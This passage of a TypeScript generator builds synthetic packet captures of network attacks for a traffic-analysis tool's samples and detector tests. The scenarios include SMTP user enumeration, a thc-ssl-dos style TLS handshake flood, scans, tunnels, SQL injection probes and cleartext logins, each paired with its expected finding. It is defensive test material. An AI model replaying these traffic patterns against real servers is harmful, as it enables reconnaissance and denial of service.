    turn(s, t, 'EHLO kali\r\n', '250-mail.corp.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250-VRFY\r\n250-ETRN\r\n250-STARTTLS\r\n250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n250-DSN\r\n250 CHUNKING\r\n');
    return t;
  };
  for (let i = 0; i < names.length; i += 5) {
    const t = connect();
    for (const n of names.slice(i, i + 5)) {
      turn(s, t, `VRFY ${n}\r\n`, exists.has(n) ? `252 2.0.0 ${n}\r\n` : `550 5.1.1 <${n}>: Recipient address rejected: User unknown in local recipient table\r\n`);
    }
    turn(s, t, 'QUIT\r\n', '221 2.0.0 Bye\r\n');
    s.run(t.close(SERVER));
  }
  const t = connect();
  for (const n of ['staff', 'all', 'it-team']) turn(s, t, `EXPN ${n}\r\n`, '502 5.5.2 Error: command not recognized\r\n');
  turn(s, t, 'MAIL FROM:<probe@kali.example>\r\n', '250 2.1.0 Ok\r\n');
  for (const n of ['carol', 'dave', 'alice', 'erin']) {
    turn(s, t, `RCPT TO:<${n}@corp.example>\r\n`, n === 'alice' ? '250 2.1.5 Ok\r\n' : `550 5.1.1 <${n}@corp.example>: Recipient address rejected: User unknown in local recipient table\r\n`);
  }
  turn(s, t, 'QUIT\r\n', '221 2.0.0 Bye\r\n');
  s.run(t.close(SERVER));
  return s.bytes();
}

function tlsHandshakeFlood(): Uint8Array {
  const s = new CaptureScript('tls-handshake-flood', at(18, 30, 0));
  // thc-ssl-dos style: one client opens connection after connection and makes the server do the expensive
  // half of a handshake each time, then drops the connection — dozens per second.
  let port = 33_000 + s.rng.int(0, 1_000);
  for (let i = 0; i < 60; i++) {
    const t = tcp(s, { mac: ATTACKER_MAC, ip: ATTACKER, port: port++ }, { mac: WEB_MAC, ip: WEB, port: 443 }, { rtt: 450, serverTtl: 64, capturedAt: 'wire' });
    s.run(t.handshake(), 15_000 + s.rng.exp(15_000));
    tlsHandshake(s, t, 'shop.corp.example', 620 + s.rng.int(0, 60));
    s.run(t.reset(CLIENT));
  }
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// File-level cases

function truncated(): Uint8Array {
  const s = new CaptureScript('truncated', at(9, 40, 0));
  // A download whose capture stopped mid-write: the last record's header promises more bytes than the file has.
  const resolver = { mac: GW_MAC, ip: GW, port: 53 };
  const q = { mac: HOST_MAC, ip: HOST, port: 35_120 };
  const mirror = ipv4('203.0.113.15');
  dns4(s, 0, q, resolver, { id: 0x4410, flags: DNS_FLAGS_QUERY, questions: [{ name: 'mirror.example.org', type: DNS_A }] });
  dns4(s, 7_000, resolver, q, {
    id: 0x4410,
    flags: DNS_FLAGS_RESPONSE,
    questions: [{ name: 'mirror.example.org', type: DNS_A }],
    answers: [{ name: 'mirror.example.org', type: DNS_A, ttl: 120, data: mirror }],
  });
  const t = tcp(s, { mac: HOST_MAC, ip: HOST, port: 51_900 }, { mac: GW_MAC, ip: mirror, port: 80 }, { rtt: 30_000, serverTtl: 51 });
  s.run(t.handshake(), 200);
  s.run(t.push(CLIENT, latin1(httpRequestHead('GET', '/pub/release-2.4.tar.xz', [['Host', 'mirror.example.org'], ['User-Agent', 'Wget/1.21.3'], ['Accept', '*/*'], ['Connection', 'Keep-Alive']]))));
  const size = 250_000;
  const head = latin1(httpResponseHead(200, 'OK', [['Server', 'nginx/1.24.0'], ['Content-Type', 'application/x-xz'], ['Content-Length', String(size)]]));
  s.run(t.send(SERVER, concat(head, s.rng.bytes(20_000))));
  s.run([t.segment(SERVER, ACK, s.rng.bytes(1_448))]);
  const whole = s.bytes();
  // Cut the file in the middle of the last record (a full-size segment): 700 of its bytes are missing.
  return whole.slice(0, whole.length - 700);
}

/** A busy office LAN from the benchmark generator (600 frames), gzip-compressed. */
function officeMix(): Uint8Array {
  const dir = join(tmpdir(), `fathom-samples-${process.pid}`);
  mkdirSync(dir, { recursive: true });
  const path = join(dir, 'office-mix.pcap');
  try {
    generateMixedCapture(path, 600, 'office-mix-sample');
    return readFileSync(path);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const SAMPLES: Sample[] = [
  {
    file: 'intro-web.pcap',
    title: 'Browsing the web',
    description: 'A workstation resolves a name, fetches a page over HTTP and signs in over TLS 1.3: what normal looks like.',
    scenario: 'web-browsing',
    expectFindings: [],
    build: introWeb,
  },
  {
    file: 'arp-poisoning.pcap',
    title: 'ARP cache poisoning',
    description: "Unsolicited ARP replies claim the gateway's IP from another MAC; the victim's login then flows through the attacker.",
    scenario: 'arp-poisoning',
    expectFindings: ['arp.poisoning'],
    build: arpPoisoning,
  },
  {
    file: 'arp-scan.pcap',
    title: 'ARP scan',
    description: 'One host asks who-has for every address of the /24 in a few hundred milliseconds; live hosts answer.',
    scenario: 'arp-scan',
    expectFindings: ['arp.scan'],
    build: arpScan,
  },
  {
    file: 'tcp-syn-scan.pcap',
    title: 'SYN port scan',
    description: 'nmap -sS against one server: SYNs to 209 ports, RST/ACK from closed ones, SYN/ACK then RST for open ones.',
    scenario: 'tcp-syn-scan',
    expectFindings: ['tcp.syn_scan'],
    build: synScan,
  },
  {
    file: 'tcp-null-fin-xmas-scan.pcap',
    title: 'NULL, FIN and XMAS scans',
    description: 'Segments with no flags, only FIN, and FIN+PSH+URG: closed ports answer with resets, open ones stay silent.',
    scenario: 'tcp-stealth-scan',
    expectFindings: ['tcp.stealth_scan'],
    build: stealthScans,
  },
  {
    file: 'icmp-ping-sweep.pcap',
    title: 'ICMP ping sweep',
    description: 'Echo requests to every address of a remote /24; a few hosts reply, the router reports the rest unreachable.',
    scenario: 'icmp-sweep',
    expectFindings: ['icmp.sweep'],
    build: pingSweep,
  },
  {
    file: 'icmp-tunnel.pcap',
    title: 'ICMP tunnel',
    description: 'A shell over ICMP echo: odd and large payloads, replies that do not mirror their requests, a file leaving in chunks.',
    scenario: 'icmp-tunnel',
    expectFindings: ['icmp.tunnel'],
    build: icmpTunnel,
  },
  {
    file: 'ip-frag-overlap.pcap',
    title: 'Overlapping IP fragments',
    description: 'Teardrop-style fragments that start inside earlier ones, and overlaps that carry conflicting data.',
    scenario: 'ip-frag-overlap',
    expectFindings: ['ip.frag_overlap'],
    build: fragOverlap,
  },
  {
    file: 'ping-of-death.pcap',
    title: 'Ping of death',
    description: 'An ICMP echo request in 45 fragments that reassemble to 66,620 bytes, past the 65,535-byte IPv4 limit.',
    scenario: 'ping-of-death',
    expectFindings: ['ip.ping_of_death'],
    build: pingOfDeath,
  },
  {
    file: 'ipv6-rogue-ra.pcap',
    title: 'Rogue IPv6 router advertisements',
    description: 'A second router announces its own prefix with high preference; the workstation configures an address from it.',
    scenario: 'ipv6-rogue-ra',
    expectFindings: ['ipv6.rogue_ra'],
    build: rogueRa,
  },
  {
    file: 'ipv6-6in4.pcap',
    title: '6in4 tunnel',
    description: 'IPv6 packets inside IPv4 (protocol 41) between a workstation and a tunnel broker: pings and a web request.',
    scenario: 'ipv6-6in4',
    expectFindings: ['ipv6.6in4'],
    build: sixInFour,
  },
  {
    file: 'ipv6-teredo.pcap',
    title: 'Teredo tunnel',
    description: 'IPv6 in UDP port 3544 through a NAT: qualification with a Teredo server, a bubble, pings through a relay.',
    scenario: 'ipv6-teredo',
    expectFindings: ['ipv6.teredo'],
    build: teredo,
  },
  {
    file: 'dns-zone-transfer.pcap',
    title: 'DNS zone transfer',
    description: "An outside host asks the company's name server for the whole zone (AXFR over TCP) and gets every host name.",
    scenario: 'dns-zone-transfer',
    expectFindings: ['dns.zone_transfer'],
    build: zoneTransfer,
  },
  {
    file: 'dns-tunnel.pcap',
    title: 'DNS tunnel',
    description: 'Over a hundred queries for long random-looking names under one domain, answered with TXT, CNAME and MX data.',
    scenario: 'dns-tunnel',
    expectFindings: ['dns.tunnel'],
    build: dnsTunnel,
  },
  {
    file: 'http-sqli.pcap',
    title: 'SQL injection',
    description: 'A product page probed with quotes, tautologies and UNION SELECT in its id parameter; the database answers.',
    scenario: 'http-sqli',
    expectFindings: ['http.sqli'],
    build: sqlInjection,
  },
  {
    file: 'http-scanner-ua.pcap',
    title: 'Web scanners',
    description: 'Nikto and sqlmap announce themselves in the User-Agent while they try well-known paths and payloads.',
    scenario: 'http-scanner-ua',
    expectFindings: ['http.scanner_ua'],
    build: scannerUserAgents,
  },
  {
    file: 'cleartext-credentials.pcap',
    title: 'Passwords in clear text',
    description: 'An FTP login, HTTP Basic authentication and a login form over plain HTTP: every password is readable.',
    scenario: 'cleartext-credentials',
    expectFindings: ['cred.cleartext'],
    build: cleartextCredentials,
  },
  {
    file: 'smtp-user-enum.pcap',
    title: 'SMTP user enumeration',
    description: 'VRFY, EXPN and RCPT TO against a mail server tell existing accounts (252/250) from unknown ones (550).',
    scenario: 'smtp-user-enum',
    expectFindings: ['smtp.user_enum'],
    build: smtpUserEnum,
  },
  {
    file: 'tls-handshake-flood.pcap',
    title: 'TLS handshake flood',
    description: 'Sixty connections in a few seconds, each making the server start a TLS handshake before it is reset.',
    scenario: 'tls-handshake-flood',
    expectFindings: ['tls.handshake_flood'],
    build: tlsHandshakeFlood,
  },
  {
    file: 'truncated.pcap',
    title: 'Truncated capture',
    description: 'A download whose capture file ends in the middle of the last packet: every complete frame still loads.',
    scenario: 'truncated-capture',
    expectFindings: [],
    build: truncated,
  },
  {
    file: 'office-mix.pcap.gz',
    title: 'Busy office network (gzip)',
    description: 'Six hundred frames of everyday LAN traffic (web, TLS, DNS, ARP, ICMP, IPv6) in a gzip-compressed file.',
    scenario: 'compressed-capture',
    expectFindings: [],
    build: officeMix,
  },
];

function main(): void {
  mkdirSync(OUT, { recursive: true });
  const index: Omit<Sample, 'build'>[] = [];
  for (const sample of SAMPLES) {
    let bytes = sample.build();
    // mtime 0 in the gzip header (zlib's default) keeps the file identical from run to run.
    if (sample.file.endsWith('.gz')) bytes = gzipSync(bytes, { level: 9 });
    if (bytes.length > MAX_SAMPLE_BYTES) throw new Error(`${sample.file} is ${bytes.length} bytes, over the ${MAX_SAMPLE_BYTES}-byte limit for samples`);
    writeFileSync(join(OUT, sample.file), bytes);
    const { build: _build, ...meta } = sample;
    index.push(meta);
    process.stderr.write(`${sample.file.padEnd(30)} ${String(bytes.length).padStart(7)} bytes\n`);
  }
  writeFileSync(join(OUT, 'index.json'), JSON.stringify(index, null, 2) + '\n');
  process.stderr.write(`wrote ${index.length} samples and index.json to ${OUT}\n`);
}

main();
